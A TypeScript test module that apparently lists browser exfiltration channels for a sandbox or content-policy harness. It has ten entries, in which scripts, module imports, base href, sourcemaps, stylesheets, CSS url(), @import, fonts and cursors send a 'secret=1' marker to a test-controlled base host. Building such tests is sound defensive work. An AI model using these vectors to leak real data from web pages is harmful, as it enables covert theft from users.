import type { Channel } from "./channel.ts";

/** Scripts, modules, style sheets, fonts. */
export const CODE_AND_STYLE: readonly Channel[] = [
  {
    id: "script_src",
    family: "code",
    entry: 7,
    attack: (t) => t.element("script", { src: `${t.base}/js?secret=1` }),
  },
  {
    id: "module_import",
    family: "code",
    entry: 7,
    attack: (t) => import(`${t.base}/js?secret=1`),
  },
  {
    id: "base_href",
    family: "code",
    entry: 102,
    attack: (t) => {
      t.element("base", { href: `${t.base}/` });
      new Image().src = "img?secret=1";
    },
  },
  {
    id: "js_sourcemap",
    family: "code",
    entry: 7,
    attack: (t) => new Function(`0\n//# sourceMappingURL=${t.base}/map?secret=1`)(),
  },
  {
    id: "css_link",
    family: "style",
    entry: 6,
    attack: (t) => t.element("link", { rel: "stylesheet", href: `${t.base}/css?secret=1` }),
  },
  {
    id: "css_url",
    family: "style",
    entry: 5,
    attack: (t) => {
      document.body.style.backgroundImage = `url(${t.base}/img?secret=1)`;
    },
  },
  {
    id: "css_import",
    family: "style",
    entry: 6,
    attack: (t) => t.markup(`<style>@import "${t.base}/css?secret=1";</style>`),
  },
  {
    id: "css_font",
    family: "style",
    entry: 6,
    attack: (t) =>
      t.markup(
        `<style>@font-face{font-family:leak;src:url(${t.base}/font?secret=1)}</style><p style="font-family:leak">text</p>`,
      ),
  },
  {
    id: "fontface_api",
    family: "style",
    entry: 6,
    attack: (t) => new FontFace("leak", `url(${t.base}/font?secret=1)`).load(),
  },
  {
    id: "css_cursor",
    family: "style",
    entry: 5,
    attack: (t) => {
      document.body.style.cursor = `url(${t.base}/img?secret=1), auto`;
    },
  },
];
